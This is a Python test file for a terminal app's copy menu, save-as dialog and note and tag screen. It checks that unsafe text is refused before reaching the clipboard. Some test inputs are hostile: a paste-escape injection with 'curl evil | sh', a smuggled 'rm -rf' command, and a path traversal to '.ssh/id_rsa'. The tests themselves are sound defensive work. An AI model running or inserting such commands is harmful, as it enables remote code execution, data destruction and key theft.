"""The copy menu, save as, notes and tags."""

from __future__ import annotations

import base64
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from textual.pilot import Pilot
from textual.widgets import Input

from eternal_tui.config.settings import Settings
from eternal_tui.core.sanitize import UntrustedText, sanitize
from eternal_tui.jobs.model import MAX_TAGS, FileState, Job, JobState, parse_tags
from eternal_tui.services import Services
from eternal_tui.tui.screens.job_dialogs import CopyItem, CopyMenu, NoteScreen, SaveAs, copy_items, copy_rejection
from tests.tui.jobs import make_job
from tests.tui.results import open_services_with_jobs, saved_job
from tests.tui.screens.stage import (
    ENVIRON,
    ScreenApp,
    open_screen,
    open_services,
    screen_text,
    terminal_context,
    wait_idle,
)

PROMPT = "The person waves\nand smiles"
LINK = "https://cdn.example/r?sig=1"


def finished_job(prompt: str = PROMPT, **fields: object) -> Job:
    given = {"result_url": UntrustedText(LINK), "request_id": "req-1", **fields}
    return saved_job("12.jpg", job_id=12, prompt=prompt, **given)


# What of a job can be copied


def items_by_id(job: Job, key_header: str = "x-api-key") -> dict[str, CopyItem]:
    settings = Settings(key_header=key_header)  # type: ignore[arg-type]
    return {item.id: item for item in copy_items(job, Path("/data/results"), settings)}


def test_only_what_exists_is_offered_as_it_is() -> None:
    prompt = "Zwölf Boxkämpfer\n\tan der Förde 🇳🇴 — ‘quoted’ $HOME `date`"
    items = items_by_id(finished_job(prompt))
    assert list(items) == ["path", "link", "prompt", "request_id", "curl", "python", "json"]
    assert (items["path"].text, items["link"].text) == ("/data/results/12.jpg", LINK)
    assert (items["prompt"].text, copy_rejection(items["prompt"])) == (prompt, "")
    for name, item in items_by_id(finished_job(), "Authorization").items():
        assert ("Authorization" in item.text) is (name in ("curl", "python"))
    assert set(items_by_id(make_job(state=JobState.REJECTED))) == {"prompt", "curl", "python", "json"}
    assert "path" not in items_by_id(finished_job(file_state=FileState.BROKEN))
    assert "path" not in items_by_id(finished_job(file="../../.ssh/id_rsa"))


@given(st.text(max_size=60))
def test_what_is_copied_holds_nothing_a_shell_acts_on(prompt: str) -> None:
    items = items_by_id(finished_job(prompt))
    for item in items.values():
        if not copy_rejection(item):
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", item.text)
    assert [copy_rejection(items[name]) for name in ("curl", "json")] == ["", ""]


@pytest.mark.parametrize("sign", ["\x1b", "\r", "\x00", "\x7f", "\x9b", "\x08"])
def test_a_control_character_in_the_prompt_is_rejected_by_name(sign: str) -> None:
    rejection = copy_rejection(items_by_id(finished_job(f"a{sign}b"))["prompt"])
    assert f"U+{ord(sign):04X}" in rejection
    assert rejection == sanitize(rejection)


def test_a_link_or_an_id_of_several_lines_is_rejected() -> None:
    items = items_by_id(finished_job(result_url=UntrustedText("https://a\nrm -rf x"), request_id="a\tb"))
    assert copy_rejection(items["link"])
    assert copy_rejection(items["request_id"])


# The copy menu


def clipboard_texts(written: list[str]) -> list[str]:
    found = re.findall("\x1b]52;c;([A-Za-z0-9+/=]*)\x07", "".join(written))
    return [base64.b64decode(each).decode() for each in found]


async def test_a_letter_the_cursor_or_a_click_copies(tmp_path: Path) -> None:
    prompt = PROMPT, "Copied the prompt, 27 characters."
    request_id = "req-1", "Copied the request id, 5 characters."
    ways = [
        (["t"], prompt),
        (["i"], request_id),
        (["l"], (LINK, "Copied the link, 27 characters.")),
        (["j", "j", "j", "k", "enter"], prompt),
        (["down", "down", "down", "enter"], request_id),
        ([], request_id),
    ]
    written: list[str] = []
    job, terminal = finished_job(), terminal_context(written)
    async with open_services(tmp_path) as bench, open_screen(CopyMenu(job, bench, terminal)) as (app, pilot):
        await pilot.press("escape")
        for keys, _ in ways:
            app.push_screen(CopyMenu(job, bench, terminal), app.results.append)
            await wait_idle(pilot)
            await pilot.press(*keys)
            if not keys:
                await pilot.click("#copies", offset=(6, 3))
            await wait_idle(pilot)
    assert app.results == [None, *(message for _, (_, message) in ways)]
    assert clipboard_texts(written) == [text for _, (text, _) in ways]


async def test_what_the_job_lacks_or_a_shell_would_run_is_not_copied(tmp_path: Path) -> None:
    written: list[str] = []
    job, terminal = make_job(3, prompt="nice\x1b[201~; curl evil | sh\r"), terminal_context(written)
    async with open_services(tmp_path) as bench, open_screen(CopyMenu(job, bench, terminal)) as (app, pilot):
        assert "link" not in screen_text(app)
        await pilot.press("l")
        assert "This job has no link." in screen_text(app)
        await pilot.press("t")
        await wait_idle(pilot)
        assert "U+001B" in screen_text(app)
        assert (app.results, written) == ([], [])
        await pilot.press("b")
        await wait_idle(pilot)
    assert "\x1b" not in clipboard_texts(written)[0]


@pytest.mark.parametrize("remote", [False, True])
async def test_the_machines_own_clipboard_is_used_only_in_a_local_session(tmp_path: Path, remote: bool) -> None:
    copied = tmp_path / "copied"
    program = tmp_path / "xclip"
    program.write_text(f"#!/bin/sh\n/bin/cat > {copied}\n")
    program.chmod(0o700)
    environ = {**ENVIRON, "PATH": str(tmp_path), "DISPLAY": ":0"}
    written: list[str] = []
    job, terminal = finished_job("é" * 40_000), terminal_context(written, environ, is_remote=remote)
    async with open_services(tmp_path) as bench, open_screen(CopyMenu(job, bench, terminal)) as (app, pilot):
        await pilot.press("t")
        await wait_idle(pilot)
    assert written == []
    if remote:
        too_long = "Too long for the terminal's clipboard: the prompt is 80,000 bytes, the limit is 74,994."
        assert app.results == [too_long]
        assert not copied.exists()
    else:
        assert app.results == ["Copied the prompt, 40,000 characters."]
        assert copied.read_text(encoding="utf-8") == job.request.prompt


async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
    keys = {"copy.prompt": "x"}
    async with (
        open_services(tmp_path, keys=keys) as bench,
        open_screen(CopyMenu(finished_job("é"), bench, terminal_context())) as (app, pilot),
    ):
        app.set_keymap(keys)
        assert re.search(r"x +prompt", screen_text(app))
        await pilot.press("t")
        assert app.results == []
        await pilot.press("x")
        await wait_idle(pilot)
    assert app.results == ["Copied the prompt, 1 character."]


# Save as


@pytest.fixture
def downloads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The default folder of copies."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    folder = tmp_path / "home" / "Downloads"
    folder.mkdir(parents=True)
    return folder


@asynccontextmanager
async def open_save_as(
    folder: Path, *jobs: Job, **settings: Any
) -> AsyncIterator[tuple[Services, ScreenApp, Pilot[None]]]:
    async with (
        open_services_with_jobs(folder, *jobs, **settings) as (bench, kept),
        open_screen(SaveAs(kept, bench)) as (app, pilot),
    ):
        yield bench, app, pilot


def path_line(app: ScreenApp) -> Input:
    return app.screen.query_one("#save-line", Input)


async def submit_path(app: ScreenApp, pilot: Pilot[None], path: str | None) -> None:
    path_line(app).value = path_line(app).value if path is None else path
    await pilot.press("enter")
    await wait_idle(pilot)


@pytest.mark.parametrize(
    ("entered", "saved"),
    [
        (None, "Downloads/Astrid-1.png"),
        ("taken.png", "Downloads/taken-2.png"),
        ("harbour", "Downloads/harbour.png"),
        ("~", "Astrid-1.png"),
        ("$HOME/a.png", "a.png"),
    ],
)
async def test_a_copy_is_saved(tmp_path: Path, downloads: Path, entered: str | None, saved: str) -> None:
    (downloads / "taken.png").write_bytes(b"mine")
    template = "{character}-{id}"
    async with open_save_as(tmp_path, saved_job("a.png"), save_template=template) as (bench, app, pilot):
        assert path_line(app).value == "~/Downloads/Astrid-1.png"
        await submit_path(app, pilot, entered)
        assert app.results == [f"Saved as ~/{saved}."]
        assert (tmp_path / "home" / saved).read_bytes() == (bench.jobs.results_dir / "a.png").read_bytes()
        assert (downloads / "taken.png").read_bytes() == b"mine"


async def test_what_is_wrong_is_shown_and_can_be_corrected(tmp_path: Path, downloads: Path) -> None:
    async with open_save_as(tmp_path, saved_job("a.png")) as (_, app, pilot):
        for entered, message in (
            ("~/nowhere/a.jpg", "does not exist"),
            ("", "File name is required."),
            ("x" * 300, "Could not save"),
        ):
            await submit_path(app, pilot, entered)
            assert message in screen_text(app)
        assert app.results == []
        await submit_path(app, pilot, "a.jpg")
    assert app.results == ["Saved as ~/Downloads/a.jpg. Its content is PNG."]
    assert [path.name for path in (tmp_path / "home").iterdir()] == ["Downloads"]


async def test_several_jobs_are_saved_into_a_folder_that_exists(tmp_path: Path, downloads: Path) -> None:
    jobs = (saved_job("a.png"), saved_job("b.png"), make_job(state=JobState.FAILED))
    async with open_save_as(tmp_path, *jobs, save_template="{id}") as (_, app, pilot):
        assert path_line(app).value == "~/Downloads"
        await submit_path(app, pilot, "~/Downloads/new")
        assert "does not exist" in screen_text(app)
        await submit_path(app, pilot, "~/Downloads")
    assert app.results == ["Saved 2 files in ~/Downloads. 1 had no verified file."]
    assert sorted(path.name for path in (tmp_path / "home" / "Downloads").iterdir()) == ["1.png", "2.png"]


async def test_without_downloads_the_working_folder_is_offered_and_without_a_file_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    async with open_save_as(tmp_path, saved_job("a.png"), saved_job("b.png")) as (bench, app, pilot):
        assert path_line(app).value == str(tmp_path)
        await pilot.press("escape")
        app.push_screen(SaveAs([make_job(14, state=JobState.FAILED)], bench), app.results.append)
        await wait_idle(pilot)
        await pilot.pause()
    assert app.results == [None, "Job 14 has no verified file to save."]


# Notes and tags

NOTED = {"note": UntrustedText("first\nsecond"), "tags": ("sea",)}
CLEAR_BOTH = ["end", "ctrl+u", "tab", "end", "ctrl+u", "enter"]


@pytest.mark.parametrize(
    ("fields", "keys", "result"),
    [
        ({}, [*"nice", "tab", *"sea", "space", *"boat", "enter"], ("nice", ("sea", "boat"))),
        (NOTED, ["tab", "end", "space", *"sun", "enter"], ("first\nsecond", ("sea", "sun"))),
        (NOTED, CLEAR_BOTH, ("", ())),
        (NOTED, ["x", "escape"], None),
        (NOTED, ["enter"], None),
    ],
    ids=["written", "as stored where untouched", "removed", "escape", "unchanged"],
)
async def test_note_and_tags(fields: dict[str, Any], keys: list[str], result: object) -> None:
    async with open_screen(NoteScreen(make_job(3, **fields))) as (app, pilot):
        await pilot.press(*keys)
        await wait_idle(pilot)
    assert app.results == [result and {3: result}]


async def test_several_jobs_share_what_is_written_and_keep_their_own() -> None:
    jobs = [
        make_job(3, note=UntrustedText("mine"), tags=("sea", "own")),
        make_job(2, tags=("sea",)),
        make_job(1, tags=("x", "sea")),
    ]
    async with open_screen(NoteScreen(*jobs)) as (app, pilot):
        assert app.screen.query_one("#tags-line", Input).value == "sea"
        await pilot.press("tab", "end", "ctrl+u", *"boat", "enter")
        await wait_idle(pilot)
    assert app.results == [{3: ("mine", ("boat", "own")), 2: ("", ("boat",)), 1: ("", ("boat", "x"))}]


def test_words_become_tags() -> None:
    assert parse_tags("  #sea, Boat sea SEA ,, # café") == ("sea", "Boat", "café")
    assert len(parse_tags(" ".join(f"t{n}" for n in range(99)))) == MAX_TAGS
